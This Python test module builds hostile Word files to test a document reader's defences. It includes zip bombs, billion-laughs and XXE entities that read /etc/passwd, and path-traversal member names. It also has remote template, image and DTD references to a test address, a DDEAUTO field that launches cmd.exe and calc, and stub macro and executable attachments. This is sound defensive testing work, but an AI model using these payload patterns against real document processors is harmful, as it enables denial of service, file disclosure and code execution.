"""Word files built to harm or to deceive."""

import struct

from tests.review.reading.raw_zip import (
    Member,
    package,
    packed,
    packed_megabytes,
    raw_package,
)
from tests.review.reading.word_file import paragraph, run, word, word_bytes

BODY = paragraph(run("云溪县人民政府关于加强备案工作的通知"))
DOCUMENT = word("document", f"<w:body>{BODY}</w:body>")
MAIN = "word/document.xml"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def bomb() -> bytes:
    return package((MAIN, DOCUMENT), ("word/media/a.bin", "0" * 40_000_000))


def gigabyte_picture() -> bytes:
    picture = Member("word/media/a.png", packed_megabytes(1024), 1 << 30)
    return raw_package([Member(MAIN, packed(DOCUMENT.encode()), len(DOCUMENT.encode())), picture])


def body_that_claims_to_be_small() -> bytes:
    head = DOCUMENT.removesuffix("</w:document>").encode()
    return raw_package([Member(MAIN, packed_megabytes(1024, b" ", head), len(head) + 900)])


def claimed_to_be_endless() -> bytes:
    return raw_package([Member(MAIN, packed(DOCUMENT.encode()), 0xFFFFFFFE)])


def nested_packages() -> bytes:
    content = package(("a.bin", b"\0" * 30_000_000))
    for depth in range(6):
        content = package(*((f"{depth}-{place}.zip", content) for place in range(10)))
    return package((MAIN, DOCUMENT), ("word/embeddings/a.zip", content))


def packages_alone() -> bytes:
    content = package(("a.bin", b"\0" * 30_000_000))
    for depth in range(6):
        content = package(*((f"{depth}-{place}.zip", content) for place in range(10)))
    return content


def members_on_one_another() -> bytes:
    kernel = Member("word/media/a.png", packed(b"\0" * 200_000), 200_000)
    main = Member(MAIN, packed(DOCUMENT.encode()), len(DOCUMENT.encode()))
    return raw_package([main, kernel], copies=900)


def too_many_members() -> bytes:
    return package((MAIN, DOCUMENT), *((f"word/{number}.xml", "<a/>") for number in range(5000)))


def two_million_paragraphs() -> bytes:
    return package((MAIN, word("document", f"<w:body>{'<w:p/>' * 2_000_000}</w:body>")))


def many_paragraphs() -> bytes:
    return word_bytes(paragraph(run("重复")) * 200_000)


def a_million_runs() -> bytes:
    return word_bytes(f"<w:p>{'<w:r><w:t>字</w:t></w:r>' * 1_000_000}</w:p>")


def tables_in_tables() -> bytes:
    opened, closed = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return word_bytes(opened * 80 + BODY + closed * 80)


def a_hundred_thousand_deep() -> bytes:
    return package((MAIN, word("document", "<w:p>" * 100_000 + "</w:p>" * 100_000)))


def deep() -> bytes:
    return package((MAIN, word("document", "<w:p>" * 5000 + "</w:p>" * 5000)))


def long_attributes() -> bytes:
    return package((MAIN, DOCUMENT.replace("<w:p>", f'<w:p w:a="{"a" * 20_000_000}">', 1)))


def declared(declaration: str, text: str = "") -> bytes:
    """Return a file whose body begins with a declaration and shows an entity."""
    body = DOCUMENT.replace("?>", f"?>{declaration}", 1).replace("云溪县", f"{text}云溪县", 1)
    return package((MAIN, body))


def with_entity() -> bytes:
    return declared('<!DOCTYPE a [<!ENTITY x "另一份文件">]>', "&x;")


def billion_laughs() -> bytes:
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return declared(f'<!DOCTYPE a [<!ENTITY a0 "哈">{levels}]>', "&a9;")


def quadratic_entity() -> bytes:
    return declared(f'<!DOCTYPE a [<!ENTITY x "{"哈" * 50_000}">]>', "&x;" * 50_000)


def entity_from_a_file() -> bytes:
    return declared('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")


def entity_from_the_network() -> bytes:
    return declared('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/a.dtd"> %x;]>')


def document_type_elsewhere() -> bytes:
    return declared('<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd">')


def with_entity_elsewhere() -> bytes:
    return package((MAIN, DOCUMENT), ("docProps/core.xml", "<!DOCTYPE a><a/>"))


def entity_behind_blanks() -> bytes:
    return declared(" " * 60_000 + '<!DOCTYPE a [<!ENTITY x "另一份">]>', "&x;")


def in_utf16() -> bytes:
    return package((MAIN, DOCUMENT.replace("UTF-8", "UTF-16").encode("utf-16")))


def entity_in_utf16() -> bytes:
    body = DOCUMENT.replace("UTF-8", "UTF-16").replace("?>", '?><!DOCTYPE a [<!ENTITY x "">]>', 1)
    return package((MAIN, body.encode("utf-16-be")))


def in_utf7() -> bytes:
    return package((MAIN, DOCUMENT.replace("UTF-8", "UTF-7").encode("utf-7")))


def with_two_bodies() -> bytes:
    # The same name twice, as zipfile itself would warn about it.
    content = package((MAIN, DOCUMENT), ("word/documenu.xml", DOCUMENT))
    return content.replace(b"documenu", b"document")


def with_case_twins() -> bytes:
    return package((MAIN, DOCUMENT), ("Word/Document.xml", DOCUMENT))


def with_outside_name() -> bytes:
    return package((MAIN, DOCUMENT), ("../../start.xml", "<a/>"))


def with_absolute_name() -> bytes:
    return package((MAIN, DOCUMENT), ("C:\\start.xml", "<a/>"))


def with_rooted_name() -> bytes:
    return package((MAIN, DOCUMENT), ("/etc/cron.d/a", "a"))


def with_encrypted_flag() -> bytes:
    content = bytearray(package((MAIN, DOCUMENT)))
    central = content.index(b"PK\x01\x02")
    struct.pack_into("<H", content, central + 8, 1)
    return bytes(content)


def overlapping() -> bytes:
    content = bytearray(package((MAIN, DOCUMENT), ("word/b.bin", "b" * 9)))
    second = content.rindex(b"PK\x01\x02")
    struct.pack_into("<L", content, second + 42, 10)
    return bytes(content)


def unknown_packing() -> bytes:
    content = bytearray(package((MAIN, DOCUMENT)))
    for start, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        struct.pack_into("<H", content, content.index(start) + place, 97)
    return bytes(content)


def truncated() -> bytes:
    content = word_bytes(BODY)
    return content[: len(content) // 2]


def mangled() -> bytes:
    return package((MAIN, DOCUMENT[:-30]))


def bodiless() -> bytes:
    return package((MAIN, word("document", "")))


def relations(*targets: tuple[str, str]) -> str:
    """Return relations of these kinds to places outside the file."""
    listed = "".join(
        f'<Relationship Id="r{number}" Type="{_RELATIONS}/{kind}" Target="{target}" '
        'TargetMode="External"/>'
        for number, (kind, target) in enumerate(targets)
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{listed}</Relationships>'


def template_on_another_machine() -> bytes:
    links = relations(("attachedTemplate", "file://192.0.2.1/share/a.dotm"))
    return package((MAIN, DOCUMENT), ("word/_rels/settings.xml.rels", links))


def picture_on_another_machine() -> bytes:
    links = relations(("image", "http://192.0.2.1/a.png"), ("oleObject", "//192.0.2.1/a.doc"))
    return package((MAIN, DOCUMENT), ("word/_rels/document.xml.rels", links))


def text_from_another_machine() -> bytes:
    links = relations(("aFChunk", "http://192.0.2.1/a.html"))
    return package((MAIN, DOCUMENT), ("word/_rels/document.xml.rels", links))


def _with_field(code: str) -> bytes:
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return word_bytes(BODY + paragraph(field))


def field_that_starts_a_program() -> bytes:
    return _with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')


def field_that_fetches_a_picture() -> bytes:
    return _with_field('INCLUDEPICTURE "http://192.0.2.1/a.png" \\d')


def with_macro() -> bytes:
    return package((MAIN, DOCUMENT), ("word/vbaProject.bin", "x"))


def with_program_inside() -> bytes:
    return package((MAIN, DOCUMENT), ("word/embeddings/oleObject1.bin", b"MZ" + bytes(900)))
